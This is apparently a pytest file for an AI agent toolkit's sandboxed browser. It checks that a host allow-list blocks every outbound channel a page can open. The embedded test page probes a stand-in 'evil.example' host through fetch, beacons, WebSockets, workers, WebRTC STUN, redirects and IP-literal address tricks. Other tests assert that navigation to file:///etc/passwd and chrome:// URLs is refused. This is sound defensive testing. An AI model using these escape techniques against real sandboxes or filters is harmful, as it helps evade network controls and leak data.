"""A page tries every way out of the browser that is known; the gate holds them all (T17, T22).

Two servers on loopback, each under a name of its own: the page comes from one that may be reached,
and everything it tries leads to the other. Each try says its own name, so that the second server
knows which got through. With the second one listed all of them do: the traps are alive.
"""

from __future__ import annotations

import http.server
import shutil
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from tests.shared import cannot_run
from tests.waiting import run as run_async
from toolkeel import ToolError
from toolkeel_workspace.computer.browser import PROGRAMS, Browser
from toolkeel_workspace.sandbox.reachable_hosts import HostPolicy

PAGE = """<!doctype html><meta charset=utf-8><title>begun</title>
<link rel=preconnect href="http://EVIL/"><link rel=dns-prefetch href="http://EVIL/">
<link rel=prefetch href="http://EVIL/prefetch"><link rel=stylesheet href="http://EVIL/style">
<img src="/to/image-redirect"><iframe src="/to/frame-redirect"></iframe>
<img src="http://EVIL/image"><iframe src="http://EVIL/frame"></iframe>
<form id=form action="http://EVIL/form" method=post target=formed></form><iframe name=formed></iframe>
<script>
const tries = [];
const settled = promise => tries.push(Promise.race([
  promise.catch(() => 0), new Promise(done => setTimeout(done, 8000))]));
const socket = (make) => settled(new Promise((done, fail) => {
  const it = make(); it.onopen = done; it.onerror = done; it.onclose = done; it.onmessage = done}));
const code = text => URL.createObjectURL(new Blob([text], {type: 'text/javascript'}));
settled(fetch('http://EVIL/fetch', {mode: 'no-cors'}));
settled(fetch('/to/fetch-redirect', {mode: 'no-cors'}));
settled(fetch('http://EVIL/keepalive', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}));
navigator.sendBeacon('http://EVIL/beacon', 'x');
socket(() => new WebSocket('ws://EVIL/socket'));
socket(() => new EventSource('http://EVIL/events'));
socket(() => new Worker(code(
  "const s = new WebSocket('ws://EVIL/worker-socket'); s.onerror = s.onopen = () => postMessage(1)")));
socket(() => new Worker(code(
  "fetch('http://EVIL/worker-fetch', {mode: 'no-cors'}).finally(() => postMessage(1))")));
socket(() => { const w = new SharedWorker(code("onconnect = e => " +
  "fetch('http://EVIL/shared-fetch', {mode: 'no-cors'}).finally(() => e.ports[0].postMessage(1))"));
  w.port.start(); return w.port});
socket(() => { const w = new SharedWorker(code("onconnect = e => { const s = " +
  "new WebSocket('ws://EVIL/shared-socket'); s.onerror = s.onopen = () => e.ports[0].postMessage(1)}"));
  w.port.start(); return w.port});
for (const [name, place] of [['address', '127.0.0.1'], ['localhost', 'localhost'],
                             ['short', '127.1'], ['number', '2130706433'], ['mapped', '[::ffff:127.0.0.1]']])
  settled(fetch(`http://${place}:NUMBER/${name}`, {mode: 'no-cors'}));
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:STUN'}]});
peer.createDataChannel('x');
settled(peer.createOffer().then(offer => peer.setLocalDescription(offer)).then(
  () => new Promise(done => { peer.onicegatheringstatechange = done })));
form.submit();
document.onclick = () => window.open('http://EVIL/opened');
Promise.all(tries).then(() => setTimeout(() => { document.title = 'done' }, 500));
</script>"""
LISTED = frozenset(
    {
        *(
            "prefetch",
            "style",
            "image-redirect",
            "frame-redirect",
            "image",
            "frame",
            "form",
            "fetch",
        ),
        *(
            "fetch-redirect",
            "keepalive",
            "beacon",
            "socket",
            "events",
            "worker-socket",
            "worker-fetch",
        ),
        *("shared-fetch", "shared-socket", "opened"),
    }
)
"""What gets through where the second server may be reached: by its name, not by its address."""


class World:
    """The servers, and what has reached the second one.

    Attributes:
        heard: The names of the tries, and ``connected`` for each connection.
    """

    def __init__(self) -> None:
        self.heard: set[str] = set()
        self.page = ""
        world = self

        class Handler(http.server.BaseHTTPRequestHandler):
            timeout = 60

            def do_GET(self) -> None:
                if self.server is world.second:
                    world.heard.add(self.path.strip("/"))
                if self.path.startswith("/to/"):
                    self.send_response(302)
                    self.send_header("Location", f"http://{world.evil}/{self.path[4:]}")
                else:
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html")
                self.end_headers()
                is_page = self.path == "/" and self.server is world.first
                self.wfile.write(world.page.encode() if is_page else b"")

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *_: Any) -> None:
                pass

        class Listening(http.server.ThreadingHTTPServer):
            def verify_request(self, request: Any, client: Any) -> bool:
                if self is world.second:
                    world.heard.add("connected")
                return True

        self.first = Listening(("127.0.0.1", 0), Handler)
        self.second = Listening(("127.0.0.1", 0), Handler)
        self.stun = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.stun.bind(("127.0.0.1", 0))
        self.good = f"good.example:{self.first.server_port}"
        self.evil = f"evil.example:{self.second.server_port}"
        text = PAGE.replace("EVIL", self.evil).replace("STUN", str(self.stun.getsockname()[1]))
        self.page = text.replace("NUMBER", str(self.second.server_port))

    def reach(self, *more: str) -> HostPolicy:
        async def resolve(host: str, port: int) -> list[str]:
            return ["127.0.0.1"]

        return HostPolicy([self.good, *more], resolve=resolve)

    def asked_for_stun(self) -> bool:
        self.stun.setblocking(False)
        try:
            return bool(self.stun.recv(100))
        except BlockingIOError:
            return False


@pytest.fixture
def world() -> Iterator[World]:
    if not any(map(shutil.which, PROGRAMS)):
        cannot_run("there is no Chromium: scripts/system_packages.py installs one")
    made = World()
    with serving(made.first), serving(made.second), made.stun:
        yield made


@contextmanager
def serving(server: http.server.ThreadingHTTPServer) -> Iterator[None]:
    server.daemon_threads = True
    with server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield
        server.shutdown()


async def play(world: World, *more: str, expect: frozenset[str] = frozenset()) -> None:
    """Let the page try everything, and wait for the tries that must arrive."""
    async with Browser(f"http://{world.good}/", allow=world.reach(*more)) as browser:
        page = next(one for one in browser.page.context.pages if world.good in one.url)
        await page.wait_for_function("document.onclick !== null")
        await page.mouse.click(10, 10)  # without one nothing is opened at all
        await page.wait_for_function("document.title == 'done'", timeout=60_000)
        for _ in range(600):  # the window that the click opens loads by itself
            if world.heard >= expect:
                break
            await page.wait_for_timeout(100)


@pytest.mark.slow
def test_no_way_out_of_a_page_leads_to_a_host_that_is_not_listed(world: World) -> None:
    run_async(lambda: play(world))
    assert world.heard == set()
    assert not world.asked_for_stun()


@pytest.mark.slow
def test_every_way_out_leads_to_a_host_that_is_listed(world: World) -> None:
    run_async(lambda: play(world, world.evil, expect=LISTED))
    assert world.heard - {"connected", ""} == LISTED
    assert not world.asked_for_stun()


@pytest.mark.slow
def test_what_is_refused_is_told(world: World) -> None:
    async def main() -> None:
        async with Browser(f"http://{world.good}/", allow=world.reach()) as browser:
            for place in (world.evil, f"127.0.0.1:{world.second.server_port}", "10.0.0.1", "[::1]"):
                with pytest.raises(
                    ToolError, match=r"not on the public internet|is not allowed|Port"
                ):
                    await browser.goto(f"http://{place}/")
            for place in (
                "file:///etc/passwd",
                "view-source:file:///etc/passwd",
                "chrome://version",
                "http://[x",
            ):
                with pytest.raises(ToolError, match="is not opened"):
                    await browser.goto(place)
        assert world.heard == set()

    run_async(main)
